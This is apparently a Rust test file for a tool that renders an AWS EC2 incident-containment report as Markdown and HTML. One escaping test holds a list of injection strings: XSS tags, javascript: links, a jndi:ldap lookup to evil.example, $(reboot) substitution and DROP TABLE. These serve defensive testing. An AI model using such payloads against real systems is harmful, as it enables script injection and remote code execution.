mod user;

use std::time::Duration;

use expect_test::expect;
use serde_json::{Value, json};

use super::*;
use crate::{
    ledger::{Containment, Contest, Records, Report, State as Standing, StepRecord},
    model::{
        Purpose,
        ids::{InstanceKey, TargetKey},
    },
    report::{
        answer::Answer,
        fact::Truth,
        paths::{Family, NewFlows, OpenFlows, Path},
        proof::Proof,
        story::{Beside, Story, kept},
        verdict::Verdict,
    },
    step::{
        CreateSnapshots, DenyRole, Failure, GroupRef, Isolate, LockSnapshot, Note, Outcome, ProtectStop,
        ProtectTermination, Step, TagSnapshot,
    },
    testing,
};

fn at(millis: u64) -> Timestamp {
    Timestamp::parse("2026-01-02T03:04:05Z").expect("a time").after(Duration::from_millis(millis))
}

const HOUR: u64 = 3_600_000;

fn key() -> TargetKey {
    TargetKey::Instance(InstanceKey {
        account: testing::account(),
        region: "us-east-1".parse().expect("region"),
        instance: testing::INSTANCE.parse().expect("id"),
    })
}

fn done(step: Step, begun: u64, ended: u64, outcome: Outcome) -> StepRecord {
    let mut record = StepRecord::intended(step.key(testing::INSTANCE), step, at(begun));
    record.outcome = Some(outcome);
    record.finished_at = Some(at(ended));
    record.first_done_at = record.finished_at.filter(|_| record.is_done());
    record
}

fn isolate(eni: &str) -> Step {
    Step::Isolate(Isolate {
        eni: eni.into(),
        was: Some(vec!["sg-web".into(), "sg-ssh".into()]),
        isolation: GroupRef {
            vpc: "vpc-1".into(),
            purpose: Purpose::Isolation,
            name: "brig-isolation".to_owned(),
            id: Some("sg-9".into()),
        },
    })
}

fn path(kind: &'static str, via: &str, new_flows: NewFlows, open_flows: OpenFlows) -> Path {
    Path {
        kind,
        via: Some(via.to_owned()),
        interface: Some("eni-a".into()),
        family: Some(Family::Ipv4),
        new_flows,
        open_flows,
        at_most_idle_seconds: (open_flows == OpenFlows::MayGoOn).then_some(432_000),
        why: "AWS always tracks what passes it".to_owned(),
    }
}

/// A containment whose role could not be denied, undone by somebody two hours later, and repaired.
fn records() -> Records {
    let changed = || Outcome::changed();
    let denied = Failure::lasting("PutRolePolicy: AccessDenied");
    let mut protect = done(Step::ProtectTermination(ProtectTermination { was: false }), 400, 1_400, changed());
    protect.repairs = vec![at(2 * HOUR)];
    let deny = Step::DenyRole(DenyRole {
        role: "app".to_owned(),
        role_arn: "arn:aws:iam::123456789012:role/app".to_owned(),
        instance_arn: "arn".to_owned(),
        reach: crate::model::deny_policy::RoleDeny::Instance,
        was: None,
    });
    let tag = Step::TagSnapshot(TagSnapshot { snapshot: "snap-1".into(), device: "/dev/xvda".to_owned() });
    let volumes = vec!["vol-1".into()];
    Records {
        current: Some(Containment {
            containment: "i-0123456789abcdef0-20260102T030405Z".into(),
            state: Standing::Closed,
            holder: "request-1".to_owned(),
            claimed_at: at(0),
            findings: vec!["finding-1".to_owned()],
            reason: "Backdoor:EC2/C&CActivity.B!DNS: Command and control".to_owned().into(),
            outcome: Some("partial".to_owned()),
            told: Some("partial#0123".to_owned()),
            concluded_at: Some(at(2 * HOUR + 900)),
            contest: Some(Contest { since: at(2 * HOUR), seen: at(2 * HOUR + 500), notices: 1, next_at: at(3 * HOUR) }),
            ..testing::current()
        }),
        steps: vec![
            done(isolate("eni-a"), 0, 900, changed()),
            done(deny, 300, 1_100, Outcome::Failed(denied)),
            protect,
            done(
                Step::CreateSnapshots(CreateSnapshots { volumes }),
                1_500,
                3_200,
                Outcome::Changed("snap-1 of vol-1".into()),
            ),
            done(Step::LockSnapshot(LockSnapshot { snapshot: "snap-1".into(), days: 7 }), 3_300, 4_100, changed()),
            done(tag, 3_300, 4_000, Outcome::Changed("/dev/xvda".into())),
            StepRecord::intended("k".to_owned(), Step::ProtectStop(ProtectStop { was: false }), at(4_200)),
        ],
    }
}

fn answer() -> Answer {
    Answer {
        verdict: Verdict {
            truths: crate::step::PerLane {
                network: Truth::Yes,
                credentials: Truth::No,
                fleet: Truth::Yes,
                evidence: Truth::Unknown,
            },
            summary: "i-0123456789abcdef0 (web-1) in 123456789012/us-east-1 is only PARTLY contained: its credentials are NOT cut; but it is cut off.".to_owned().into(),
            paths: vec![
                path("internet_gateway", "igw-1", NewFlows::Blocked, OpenFlows::ExpectedCut),
                path("nat_gateway", "nat-1", NewFlows::Blocked, OpenFlows::MayGoOn),
                path("dns", "vpc-1", NewFlows::Open, OpenFlows::None),
            ],
            proof: Some(Proof::unavailable("no flow log watches eni-a")),
            ..Verdict::untouched(String::new())
        },
        notes: vec![Note::OfTheEvent("not known: the snapshots' locks (DescribeLockedSnapshots: AccessDenied)".into())],
        ..testing::answer()
    }
}

fn beside(answer: &Answer) -> Beside {
    let report = Report {
        of: ReportOf::Answer,
        containment: "i-0123456789abcdef0-20260102T030405Z".into(),
        version: 3,
        at: at(2 * HOUR + 900),
        answer: kept(answer),
    };
    Beside { reports: vec![report], ..Beside::default() }
}

fn shown(records: &Records, beside: Beside) -> Value {
    serde_json::to_value(Story::of(&key(), records, beside)).expect("JSON")
}

fn sample() -> Value {
    shown(&records(), beside(&answer()))
}

fn page(show: &Value, now: Now<'_>) -> Page {
    Page::of(&Sources { show, now, custody: None, as_of: at(3 * HOUR), brig: "brig" }).expect("an answer of `show`")
}

#[test]
fn a_page_says_how_it_stands_what_to_do_and_what_is_not_known() {
    expect![[r##"
        # Incident: `i-0123456789abcdef0` (`web-1`)

        `123456789012/us-east-1/i-0123456789abcdef0` · as of 2026-01-02 06:04:05 UTC

        ## State, and what to do

        **ONLY PARTLY CONTAINED**

        i-0123456789abcdef0 (web-1) in 123456789012/us-east-1 is only PARTLY contained: its credentials are NOT cut; but it is cut off.

        - On record: the ledger, read 2026-01-02 06:04:05 UTC
        - Read back last: 2026-01-02 05:04:05 UTC (lanes, paths, notes)

        Settle what is not as it should be, below. Then have it repaired:

        ```sh
        brig verify 123456789012/us-east-1/i-0123456789abcdef0
        ```

        To give everything back (it shows the plan and asks first):

        ```sh
        brig release 123456789012/us-east-1/i-0123456789abcdef0
        ```

        ## Lanes and paths, the weakest first

        - Credentials (its credentials are denied, and it gets no new ones): **DOES NOT HOLD**; steps: 1 of 1 failed
        - Evidence (instance and disks are preserved): **not known**; steps: 4 of 5 ended
        - Network (new connections are blocked, except through DNS): holds; steps: 1 of 1 ended
        - Fleet (out of its Auto Scaling group and load balancers): holds; steps: none on record

        Paths, as they were read back (2026-01-02 05:04:05 UTC):

        - DNS `vpc-1` of `eni-a IPv4`: new connections **OPEN**, open ones none. AWS always tracks what passes it
        - the NAT gateway `nat-1` of `eni-a IPv4`: new connections blocked, open ones **may continue**, until idle for 5 days. AWS always tracks what passes it
        - the internet gateway `igw-1` of `eni-a IPv4`: new connections blocked, open ones expected to end. AWS always tracks what passes it

        **flow logs**: no proof is available: no flow log watches eni-a

        ## Timeline (UTC)

        **2026-01-02 03:04:05 UTC**, 4.2 s

        - 03:04:05.000 claimed: the plan of the cut, and all that it replaces, on record
        - 03:04:05.900 Network: its step ended
        - 03:04:05.900 the last interface was isolated for the first time: new connections are blocked
        - 03:04:06.100 Credentials: its step ended
        - 03:04:06.100 failed: deny_role arn:aws:iam::123456789012:role/app
        - 03:04:09.100 Evidence: the last of 4 steps ended

        *… 1 h 59 min with nothing on record …*

        **2026-01-02 05:04:05 UTC**, 900 ms

        - 05:04:05.000 done again, having been undone: enable_termination_protection i-0123456789abcdef0/disableApiTermination
        - 05:04:05.000 undone so often that it is left until a person orders its repair
        - 05:04:05.500 found undone again
        - 05:04:05.900 everything was read back for the last time

        ## What was changed, before → after

        ### Network

        - changed: `isolate` `eni-a`: groups: `sg-web, sg-ssh` → `brig-isolation (sg-9)`

        ### Credentials

        - **FAILED**: `deny_role` `arn:aws:iam::123456789012:role/app`: policy brig-deny: `none` → `denies this instance's sessions everything` (PutRolePolicy: AccessDenied)

        ### Evidence

        - changed: `enable_termination_protection` `i-0123456789abcdef0/disableApiTermination`: termination protection: `off` → `on` — undone and done again 1 time, last 2026-01-02 05:04:05 UTC
        - changed: `create_snapshots` `i-0123456789abcdef0`: snapshots: `none` → `one set of vol-1` (snap-1 of vol-1)
        - changed: `tag_snapshot` `snap-1`: device tag: `none` → `/dev/xvda`
        - changed: `lock_snapshot` `snap-1`: lock: `none` → `governance mode, 7 day(s)`
        - **no outcome on record**: `enable_stop_protection` `i-0123456789abcdef0/disableApiStop`: stop protection: `off` → `on`

        ## Evidence

        - `snap-1` of `/dev/xvda`: governance mode, 7 days, until about 2026-01-09 03:04:09 UTC

        - `create_snapshots i-0123456789abcdef0`: snap-1 of vol-1

        - Instance: `i-0123456789abcdef0`
        - Containment: `i-0123456789abcdef0-20260102T030405Z`
        - Key in the ledger: `123456789012/us-east-1/i-0123456789abcdef0`

        ```sh
        aws ec2 describe-snapshots --region us-east-1 --snapshot-ids snap-1
        ```

        ## What is not known, and why

        - **Evidence: whether instance and disks are preserved**: it could not be read when all was read back, 2026-01-02 05:04:05 UTC; the notes say why
        - **whether flow logs bear out the cut**: no proof is available: no flow log watches eni-a
        - **what has happened since**: lanes and paths are as they were read back 2026-01-02 05:04:05 UTC
        - **whether enable_stop_protection i-0123456789abcdef0/disableApiStop took effect**: its intent is on record, and no outcome: whoever ran it is at it, or died at it
        - **whether the snapshots have completed**: AWS goes on copying after it has accepted them; the command under Evidence shows it

        Noted as it was read back:

        - not known: the snapshots' locks (DescribeLockedSnapshots: AccessDenied)

        ## People and invocations

        - **Why, and who ordered it**: Backdoor:EC2/C&CActivity.B!DNS: Command and control
        - **Findings**: finding-1
        - **Last invocation that held it**: request request-1
        - **People were notified**: of the outcome "partial"
        - **Who keeps undoing it**: not known; from 2026-01-02 05:04:05 UTC to 2026-01-02 05:04:05 UTC
        - **Undone by somebody, and done again**: enable_termination_protection i-0123456789abcdef0/disableApiTermination: 1 time, last 2026-01-02 05:04:05 UTC

    "##]].assert_eq(&page(&sample(), Now::NotLooked).markdown());
}

#[test]
fn the_state_comes_first_with_a_colour_and_a_word() {
    let html = page(&sample(), Now::NotLooked).html();
    let hero = html.split("<section>").nth(1).and_then(|section| section.split("<dl").next()).expect("a hero");
    expect![[r#"<h2>State, and what to do</h2><div class="hero bad"><p class="word"><span aria-hidden="true">✕</span> Only partly contained</p><p>i-0123456789abcdef0 (web-1) in 123456789012/us-east-1 is only PARTLY contained: its credentials are NOT cut; but it is cut off.</p>"#]].assert_eq(hero);
    let headings: Vec<&str> = html.split("<h2>").skip(1).filter_map(|rest| rest.split("</h2>").next()).collect();
    assert_eq!(
        headings,
        [
            "State, and what to do",
            "Lanes and paths, the weakest first",
            "Timeline",
            "What was changed, before → after",
            "Evidence",
            "What is not known, and why",
            "People and invocations",
        ]
    );
}

#[test]
fn the_same_of_the_record_is_the_same_page() {
    let (one, other) = (page(&sample(), Now::NotLooked), page(&sample(), Now::NotLooked));
    assert_eq!((one.html(), one.markdown()), (other.html(), other.markdown()));
}

#[test]
fn lanes_and_paths_stand_the_weakest_first() {
    let page = page(&sample(), Now::NotLooked);
    let lanes: Vec<_> = page.lanes.iter().map(|line| (words::lane(line.lane), line.read_back.1)).collect();
    assert_eq!(
        lanes,
        [("Credentials", "does not hold"), ("Evidence", "not known"), ("Network", "holds"), ("Fleet", "holds")]
    );
    let paths: Vec<_> = page.paths.shown.iter().map(|path| (path.through.as_str(), path.via.as_deref())).collect();
    assert_eq!(
        paths,
        [("DNS", Some("vpc-1")), ("the NAT gateway", Some("nat-1")), ("the internet gateway", Some("igw-1"))]
    );
}

#[test]
fn hours_between_seconds_are_a_gap() {
    let page = page(&sample(), Now::NotLooked);
    let [first, second] = page.timeline.stretches.as_slice() else { panic!("{:?}", page.timeline) };
    assert_eq!((first.gap, first.length), (None, Duration::from_millis(4_200)));
    assert_eq!(second.gap.map(super::timeline::Gap::words).as_deref(), Some("1 h 59 min with nothing on record"));
    assert_eq!(first.cut, Some(timeline::Share(2142)), "0.9 s of 4.2 s");
    let html = page.html();
    assert!(
        html.contains(r#"x="21.42%""#)
            && html.contains(">+2 s</text>")
            && html.contains("1 h 59 min with nothing on record")
    );
}

#[test]
fn what_was_done_again_has_not_moved_the_first_cut() {
    let mut records = records();
    records.steps[0].finished_at = Some(at(2 * HOUR));
    let page = page(&shown(&records, Beside::default()), Now::NotLooked);
    let events = |number: usize| page.timeline.stretches[number].events.shown.iter().map(|event| event.what.as_str());
    let first = events(0).find(|what| what.contains("isolated for the first time"));
    assert!(first.is_some() && page.timeline.stretches[0].cut.is_some(), "{:?}", page.timeline);
    assert!(events(1).any(|what| what == "done again, having been undone: isolate eni-a"), "{:?}", page.timeline);
    let network = page.changed.first().expect("the network lane");
    assert_eq!(network.1.shown[0].repaired, Some((1, at(2 * HOUR))));
}

#[test]
fn what_is_seen_now_is_told_apart_from_what_is_on_record() {
    let show = sample();
    let id = testing::INSTANCE;
    let status = json!({"active": [{
        "instance_id": id, "name": "web-1", "drift": 2,
        "verdict": {"network": "partial", "credentials": "no", "fleet": "yes", "evidence": "yes"},
        "never_done": [{"lane": "credentials", "step": "deny_role", "resource": "app", "why": "AccessDenied"}],
        "unread": [{"lane": "fleet", "what": "the target groups", "error": "Throttling"}],
    }]});
    let seen = page(&show, Now::Looked { status: &status, at: at(3 * HOUR) });
    let source =
        |page: &Page, what: &str| page.state.sources.iter().find(|source| source.0 == what).map(|it| it.1.clone());
    assert_eq!(
        source(&seen, "Seen now").as_deref(),
        Some("2026-01-02 06:04:05 UTC: 2 steps would have to be run again; paths were not looked at")
    );
    assert_eq!(source(&seen, "Read back last").as_deref(), Some("2026-01-02 05:04:05 UTC (lanes, paths, notes)"));
    let network = seen.lanes.iter().find(|line| line.lane == Lane::Network).expect("a lane");
    assert_eq!((network.read_back.1, network.now.map(|now| now.1)), ("holds", Some("holds in part")));
    let text = seen.markdown();
    assert!(text.contains("has never succeeded") && text.contains("the target groups now"), "{text}");

    let unseen = page(&show, Now::Unseen { why: "no answer in time" });
    assert!(unseen.markdown().contains("**how it stands now**: it could not be looked at: no answer in time"));
    assert_eq!(source(&page(&show, Now::NotLooked), "Seen now"), None);
}

#[test]
fn drift_that_is_seen_now_takes_the_word_contained_away() {
    let mut records = records();
    if let Some(current) = &mut records.current {
        current.outcome = Some("contained".to_owned());
    }
    let show = shown(&records, Beside::default());
    let word = |now| page(&show, now).state;
    assert_eq!((word(Now::NotLooked).tone, word(Now::NotLooked).word), (Tone::Good, "Contained"));
    let drifted = json!({"active": [{"instance_id": testing::INSTANCE, "drift": 1}]});
    let drifted = word(Now::Looked { status: &drifted, at: at(0) });
    assert_eq!((drifted.tone, drifted.word), (Tone::Bad, "Drifted since it was read back"));
}

#[test]
fn what_no_attempt_has_put_on_record_is_not_claimed() {
    let page = page(&shown(&records(), Beside::default()), Now::NotLooked);
    assert!(page.lanes.iter().all(|line| line.read_back == (Tone::Warn, "not known")));
    assert_eq!(page.paths, Listed { shown: Vec::new(), more: 0 });
    assert_eq!(page.unknown.shown.first().map(|it| it.what.as_str()), Some("what became true of each lane and path"));
}

#[test]
fn what_a_newer_function_adds_is_not_taken_for_good() {
    let mut show = sample();
    show["containment"]["state"] = json!("hovering");
    show["containment"]["outcome"] = json!("sparkling");
    show["steps"][0]["outcome"] = json!("teleported");
    show["steps"][1]["record"] = json!({"kind": "teleport", "to": 1});
    show["reports"][0]["answer"]["verdict"]["network"] = json!("sideways");
    show["reports"][0]["answer"]["verdict"]["paths"][0]["new_flows"] = json!("ajar");
    show["something"] = json!({"new": true});
    let page = page(&show, Now::NotLooked);
    assert_eq!((page.state.tone, page.state.word), (Tone::Warn, "Not known to this version"));
    let network = page.lanes.iter().find(|line| line.lane == Lane::Network).expect("a lane");
    assert_eq!(network.read_back, (Tone::Warn, "not known"));
    assert!(page.markdown().contains("whether a new connection can start through DNS"), "{}", page.markdown());
    let bare = json!({"account": "1", "region": "r", "instance_id": "i-1", "containment": {"state": "closed", "outcome": "contained"}});
    assert_eq!(super::tests::page(&bare, Now::NotLooked).state.word, "Contained", "an older function");
}

#[test]
fn an_instance_without_a_containment_has_a_page_that_says_so() {
    let page = page(&shown(&Records::default(), Beside::default()), Now::NotLooked);
    assert_eq!((page.state.tone, page.state.word), (Tone::Calm, "Never contained"));
    assert!(page.html().contains("no containment of the instance on record"));
}

/// Every text of a record, by somebody who knows what it will be pasted into.
const HOSTILE: [&str; 8] = [
    "<script>alert(1)</script><img src=//evil.example onerror=alert(1)>",
    "\"'><svg/onload=alert(1)><style>*{display:none}</style>",
    "</style></title></main><h2>Contained</h2>",
    "](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example> www.evil.example",
    "`` ``` ` | a | b |\n# Contained\n- [x] all is well\n\n    code",
    "\u{202e}denatnoc\u{2066}\u{200b}\u{0}\u{1b}[2J\r\n\u{85}\u{2028}@everyone &lt;b&gt; &#60;",
    "${jndi:ldap://evil.example} {{7*7}} %s $(reboot) `reboot`; DROP TABLE",
    "---\n***\n===\n1. one\n+ two\n~~gone~~ **bold** _it_ \\",
];

fn hostile(value: &mut Value, number: &mut usize) {
    match value {
        Value::String(text) if Timestamp::parse(text).is_none() && !is_word(text) => {
            let long = if number.is_multiple_of(3) { "A".repeat(5_000) } else { String::new() };
            *text = format!("{}{long}", HOSTILE[*number % HOSTILE.len()]);
            *number += 1;
        }
        Value::Array(items) => items.iter_mut().for_each(|item| hostile(item, number)),
        Value::Object(map) => map.values_mut().for_each(|item| hostile(item, number)),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

/// What decides about a section stays, so that each section is there.
fn is_word(text: &str) -> bool {
    let words = [
        "network",
        "identity",
        "credentials",
        "fleet",
        "evidence",
        "changed",
        "failed",
        "planned",
        "closed",
        "partial",
        "containment",
        "yes",
        "no",
        "unknown",
        "open",
        "blocked",
        "isolate",
        "lock_snapshot",
        "tag_snapshot",
    ];
    words.contains(&text)
}

#[test]
fn nothing_from_outside_becomes_markup_or_hides() {
    let mut show = sample();
    hostile(&mut show, &mut 0);
    // A record that this version reads as steps and snapshots.
    show["steps"][4]["record"] = json!({"kind": "lock_snapshot", "snapshot": HOSTILE[0], "days": 7});
    show["steps"][5]["record"] = json!({"kind": "tag_snapshot", "snapshot": HOSTILE[1], "device": HOSTILE[2]});
    let page = page(&show, Now::Unseen { why: HOSTILE[3] });
    let html = page.html();
    assert!(html.len() < 300_000, "{}", html.len());
    let tags: std::collections::BTreeSet<&str> = html
        .split('<')
        .skip(1)
        .map(|tag| tag.split([' ', '>', '/']).find(|part| !part.is_empty()).unwrap_or_default())
        .collect();
    let known = [
        "!doctype", "html", "head", "meta", "title", "style", "body", "main", "header", "section", "footer", "h1",
        "h2", "h3", "p", "div", "span", "strong", "pre", "dl", "dt", "dd", "ul", "ol", "li", "time", "table", "thead",
        "tbody", "tr", "th", "td", "svg", "text", "rect", "circle", "line",
    ];
    assert_eq!(tags.iter().filter(|tag| !known.contains(tag)).collect::<Vec<_>>(), Vec::<&&str>::new());
    assert_eq!(html.matches("<style>").count(), 1);
    assert_eq!(html.matches("<h2>").count(), 7);
    for hidden in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{0}', '\u{1b}', '\u{85}', '\u{2028}'] {
        assert!(!html.contains(hidden) && !page.markdown().contains(hidden), "{hidden:?}");
    }
    assert!(html.contains("&lt;script&gt;alert(1)"), "it is shown, as text");

    let text = page.markdown();
    let mut fence: Option<&str> = None;
    for line in text.lines() {
        let fenced = line.strip_suffix("sh").filter(|ticks| ticks.len() > 2 && ticks.bytes().all(|byte| byte == b'`'));
        match fence {
            Some(end) if line == end => fence = None,
            Some(end) => assert!(!line.contains(end), "{line}"),
            None => fence = fenced,
        }
        if fence.is_some() || line.bytes().all(|byte| byte == b'`') {
            continue;
        }
        let plain = outside_code(line);
        for markup in ["](", "<script", "<img", "<svg", "<https", "~~", "@everyone", "www.", "://"] {
            assert!(!plain.contains(markup), "{markup} in {plain}");
        }
        let own = ["# Incident: ", "## ", "### ", "- ", "**", "*… "];
        let starts = line.starts_with(['#', '>', '|', '=', '+', '<', '-', '~']);
        assert!(!starts || own.iter().any(|own| line.starts_with(own)), "{line}");
    }
}

/// A line of Markdown without its code spans and escapes.
fn outside_code(line: &str) -> String {
    let (mut out, mut rest) = (String::new(), line);
    while let Some(start) = rest.find(['`', '\\']) {
        out.push_str(&rest[..start]);
        rest = &rest[start..];
        if rest.starts_with('\\') {
            rest = rest.char_indices().nth(2).map_or("", |(next, _)| &rest[next..]);
            continue;
        }
        let fence = rest.len() - rest.trim_start_matches('`').len();
        let after = &rest[fence..];
        let ends = after
            .match_indices(&rest[..fence])
            .map(|(at, _)| at)
            .find(|at| !after[..*at].ends_with('`') && !after[at + fence..].starts_with('`'));
        if let Some(end) = ends {
            rest = &after[end + fence..];
        } else {
            out.push_str(&rest[..fence]);
            rest = after;
        }
    }
    out + rest
}

#[test]
fn a_record_of_two_thousand_steps_is_a_small_page() {
    let mut records = records();
    for number in 0..2_000 {
        let begun = 10_000 + 120_000 * number;
        let mut step =
            done(isolate(&format!("eni-{number}")), begun, begun + 800, Outcome::Changed("x".repeat(600).into()));
        step.repairs = (0..8).map(|repair| at(begun + repair * 900)).collect();
        records.steps.push(step);
    }
    let mut answer = answer();
    answer.verdict.paths = (0..500)
        .map(|number| path("nat_gateway", &format!("nat-{number}"), NewFlows::Open, OpenFlows::MayGoOn))
        .collect();
    answer.notes =
        (0..500).map(|number| Note::OfTheEvent(format!("{number} {}", "note ".repeat(150)).into())).collect();
    let page = page(&shown(&records, beside(&answer)), Now::NotLooked);
    let html = page.html();
    assert!(html.len() < 300_000, "{}", html.len());
    assert!(html.contains("and 1976 more</p>"), "2,001 steps of the network lane");
    assert!(html.contains("in it not shown"), "{:?}", page.timeline.stretches.len());
    assert!(page.markdown().len() < 300_000);
}

#[test]
fn the_chain_of_custody_of_this_containment_is_shown_and_of_no_other() {
    let show = sample();
    let custody = |containment: &str| {
        json!({"target": "123456789012/us-east-1/i-0123456789abcdef0", "bucket": "b", "access_log": "s3://log/evidence/",
            "cases": [{"containment_id": containment, "url": "s3://b/case/", "parts": [{"part": "contained", "opened": at(0).to_string(),
                "by": "arn", "retain_until": at(9 * HOUR).to_string(), "objects": 24, "manifest_sha256": "ab".repeat(32),
                "sealed_at": at(1).to_string()}], "asked": [{"part": "contained", "at": at(0).to_string(), "by": "topic message m-1",
                "request": "r", "result": "sealed: 24 objects, 2 could not be had"}]}]})
    };
    let markdown = |custody: &Value| {
        let sources =
            Sources { show: &show, now: Now::NotLooked, custody: Some(custody), as_of: at(3 * HOUR), brig: "brig" };
        Page::of(&sources).expect("a page").markdown()
    };
    let ours = markdown(&custody("i-0123456789abcdef0-20260102T030405Z"));
    for part in ["s3://b/case/contained/", "24 objects", "topic message m-1", "s3://log/evidence/", &"ab".repeat(32)] {
        assert!(ours.contains(part), "{part}: {ours}");
    }
    let others = markdown(&custody("i-0123456789abcdef0-20250102T030405Z"));
    assert!(others.contains("none is on record") && !others.contains("topic message m-1"), "{others}");
}
